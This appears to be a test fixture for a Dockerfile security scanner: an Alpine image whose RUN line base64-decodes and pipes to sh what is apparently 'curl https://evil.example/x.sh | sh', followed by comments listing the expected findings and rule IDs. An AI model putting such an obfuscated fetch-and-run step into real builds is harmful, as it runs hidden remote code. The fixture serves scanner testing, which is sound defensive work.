FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN echo Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94LnNoIHwgc2gK | base64 -d | sh
USER app
# expect: code 2 high "sh runs code from its input"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR702-f207f34019 VR501-e064bac1a6
